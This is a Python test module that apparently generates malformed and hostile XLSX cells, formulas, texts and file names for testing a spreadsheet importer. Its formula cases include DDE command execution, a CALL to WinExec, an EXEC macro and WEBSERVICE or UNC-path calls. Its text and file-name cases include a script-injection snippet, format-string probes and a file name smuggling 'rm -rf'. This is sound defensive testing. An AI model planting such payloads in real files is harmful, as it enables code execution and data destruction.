"""Well-formed cells with contents that no Excel writes, and texts that want to be more."""

from __future__ import annotations

import re
from collections.abc import Iterator
from xml.sax.saxutils import escape

from tests.hostile import surroundings
from tests.hostile.cases import ACCEPTED, ANY, DAMAGED, UNSAFE, Case, changed, parts
from tests.hostile.surroundings import FIRST, FORM
from tests.hostile.wordlists import FORMULAS, SCRIPTS


def cell(text: str, ref: str = "") -> dict[str, bytes]:
    """Return the sheet PK in which one cell of its Table, the first Tujuan, is this XML."""
    ref = ref or f"B{FIRST}"
    old = re.compile(rf'<c r="{ref}"[^>]*/>'.encode())
    new, count = old.subn(lambda _: text.encode("utf-8", "surrogatepass"), parts()[FORM], count=1)
    assert count == 1
    return {FORM: new}


def typed(text: str) -> dict[str, bytes]:
    """Return the sheet PK in which somebody typed this text into the first Tujuan."""
    body = f'<t xml:space="preserve">{escape(text)}</t>'
    return cell(f'<c r="B{FIRST}" t="inlineStr"><is>{body}</is></c>')


def cells() -> Iterator[Case]:
    """Yield cells whose attributes, values and formulas are wrong."""
    b = f"B{FIRST}"
    wrong = {
        "style-text": f'<c r="{b}" s="abc"/>',
        "style-huge": f'<c r="{b}" s="999999"><v>1</v></c>',
        "style-negative": f'<c r="{b}" s="-1"><v>1</v></c>',
        "type-unknown": f'<c r="{b}" t="x"><v>1</v></c>',
        "address-none": "<c><v>1</v></c>",
        "address-empty": '<c r=""><v>1</v></c>',
        "address-column": f'<c r="XFE{FIRST}"><v>1</v></c>',
        "address-letters": f'<c r="ZZZZ{FIRST}"><v>1</v></c>',
        "address-zzz": f'<c r="ZZZ{FIRST}"/>',
        "address-row": '<c r="B999"><v>1</v></c>',
        "address-zero": '<c r="B0"><v>1</v></c>',
        "address-far": '<c r="B99999999999"><v>1</v></c>',
        "address-lower": f'<c r="b{FIRST}"><v>1</v></c>',
        "address-dollar": f'<c r="$B${FIRST}"><v>1</v></c>',
        "address-unicode": f'<c r="Ｂ{FIRST}"><v>1</v></c>',
        "twice": f'<c r="{b}"><v>1</v></c>' * 2,
        "backwards": f'<c r="{b}"><v>1</v></c><c r="A{FIRST}"><v>1</v></c>',
        "nested": f'<c r="{b}"><c r="C1"><v>1</v></c></c>',
    }
    for value in (
        "nan",
        "inf",
        "-inf",
        "1e999",
        "-1e999",
        "1e-999",
        "1_000",
        "٣",
        "²",
        "0x10",
        " 1 ",
        "",
        "1,5",
        "--1",
        "9" * 400,
        "9" * 5_000,
        "0." + "1" * 5_000,
        "1e" + "9" * 50,
        "+5",
        ".5",
        "5.",
        "1d",
        "1 2",
    ):
        wrong[f"number-{value[:8]}"] = f'<c r="H{FIRST}"><v>{value}</v></c>'
        for kind in ("s", "b", "d", "e", "n"):
            wrong[f"{kind}-{value[:8]}"] = f'<c r="H{FIRST}" t="{kind}"><v>{value}</v></c>'
    for value in (
        "2024-13-01",
        "0000-01-01",
        "9999-12-31T23:59:59",
        "24:00:00",
        "T",
        "2024-01-01T00:00:00+99:00",
    ):
        wrong[f"d-{value[:12]}"] = f'<c r="H{FIRST}" t="d"><v>{value}</v></c>'
    for name, xml in wrong.items():
        ref = f"H{FIRST}" if f'r="H{FIRST}"' in xml else b
        yield Case(f"cell/{name}", lambda x=xml, r=ref: changed(cell(x, r)), ANY)
    formulas = {
        "empty": "<f/>",
        "no-master": '<f t="shared" si="7"/>',
        "si-huge": '<f t="shared" si="99999999999"/>',
        "si-text": '<f t="shared" si="x">A1</f>',
        "array-bad": '<f t="array" ref="#REF!">A1</f>',
        "array-huge": '<f t="array" ref="A1:XFD1048576">A1</f>',
        "array-back": '<f t="array" ref="C9:A1">A1</f>',
        "table-data": '<f t="dataTable" ref="B6:B9" r1="A1"/>',
        "unknown": '<f t="x">A1</f>',
        "dde": "<f>cmd|'/c calc'!A0</f>",
        "external": "<f>[1]Lain!A1</f>",
        "external-path": "<f>'\\\\127.0.0.1\\c$\\[x.xlsx]S'!A1</f>",
        "webservice": '<f>WEBSERVICE("http://127.0.0.1:9/"&amp;A1)</f>',
        "call": '<f>CALL("kernel32","WinExec","JCJ","calc",0)</f>',
        "macro4": '<f>EXEC("calc")</f>',
        "circle": f"<f>{b}+1</f>",
        "long": "<f>" + "A1+" * 20_000 + "1</f>",
        "deep": "<f>" + "(" * 5_000 + "1" + ")" * 5_000 + "</f>",
        "quotes": "<f>" + "'\"[" * 2_000 + "</f>",
        "shared-far": '<f t="shared" ref="A1:A2" si="0">XFD1048576+A1</f>',
        "twice": "<f>A1</f><f>A2</f>",
    }
    for name, xml in formulas.items():
        text = f'<c r="{b}">{xml}<v>1</v></c>'
        yield Case(f"formula/{name}", lambda x=text: changed(cell(x)), ANY)


def texts() -> Iterator[Case]:
    """Yield texts that must stay texts, whatever they look like."""
    made = {f"formula-{n}": (typed(text), ACCEPTED) for n, text in enumerate(FORMULAS)}
    made |= {f"script-{name}": (typed(text), ACCEPTED) for name, text in SCRIPTS.items()}
    made |= {
        "32767": (typed("x" * 32_767), ACCEPTED),
        "32767-wide": (typed("選" * 32_767), ACCEPTED),
        "32768": (typed("x" * 32_768), ACCEPTED),
        "60000-lines": (typed("a\n" * 30_000), ACCEPTED),
        "million-and-one": (typed("x" * 1_000_001), UNSAFE),
        "escaped-nul": (typed("_x0000_"), ACCEPTED),
        "escaped-surrogate": (typed("_xD800_ _xDFFF_"), ACCEPTED),
        "escaped-pair": (typed("_xD83D__xDE00_"), ACCEPTED),
        "escaped-all": (typed("".join(f"_x{n:04X}_" for n in range(32))), ACCEPTED),
        "escaped-terminal": (typed("_x001B_[2J_x001B_]0;jahat_x0007_"), ACCEPTED),
        "not-escaped": (typed("_x005F_x000D_"), ACCEPTED),
        "noncharacter": (typed("\ufffe\uffff"), ANY),
        "lone-surrogate": (typed("\ud800"), DAMAGED),
        "control": (typed("\x01\x08"), DAMAGED),
        "delete": (typed("\x7f\x80\x9f"), ACCEPTED),
        "reference-nul": (cell(f'<c r="B{FIRST}" t="str"><v>&#0;</v></c>'), DAMAGED),
        "reference-far": (cell(f'<c r="B{FIRST}" t="str"><v>&#x110000;</v></c>'), DAMAGED),
        "reference-zeros": (cell(f'<c r="B{FIRST}" t="str"><v>&#{"0" * 5000}65;</v></c>'), ANY),
        "markup": (typed("<script>alert(1)</script>&amp;<![CDATA[x]]>"), ACCEPTED),
        "percent-s": (typed("%s%n%x {0} {} ${x} {{7*7}}"), ACCEPTED),
        "spaces": (typed(" " * 32_000), ACCEPTED),
        "combining": (typed("a" + "́" * 30_000), ACCEPTED),
        "digits": (typed("1" * 32_000), ACCEPTED),
        "points": (typed("1." * 16_000), ACCEPTED),
        "brackets": (typed("(" * 32_000), ACCEPTED),
        "words": (typed("seratus " * 4_000), ACCEPTED),
    }
    yield from surroundings.named_cases("text", made)
    for name, text in (
        ("digits", "9" * 30_000),
        ("percent", "1,5%" * 7_000),
        ("points", "1." * 15_000),
    ):
        target = f'<c r="H{FIRST}" t="inlineStr"><is><t>{text}</t></is></c>'
        yield Case(f"text/target-{name}", lambda x=target: changed(cell(x, f"H{FIRST}")), ACCEPTED)


def file_names() -> Iterator[Case]:
    """Yield honest workbooks whose own names are the trouble; all of them valid on Windows."""
    for name, text in SCRIPTS.items():
        yield Case(
            f"file/{name}", lambda: changed({}), ACCEPTED, file_name=f"{text}.xlsx".replace(" ", "")
        )
    for n, text in enumerate(
        (
            "laporan %s {0}",
            "laporan;rm -rf",
            "-o",
            "laporan [1]",
            "=1+1",
            "a" * 200,
            "laporan!",
            "~laporan",
            "lap'oran",
            "#1",
        )
    ):
        yield Case(f"file/odd-{n}", lambda: changed({}), ACCEPTED, file_name=f"{text}.xlsx")


def contents() -> Iterator[Case]:
    """Yield everything about contents."""
    for group in (cells, texts, surroundings.sheets, file_names):
        yield from group()
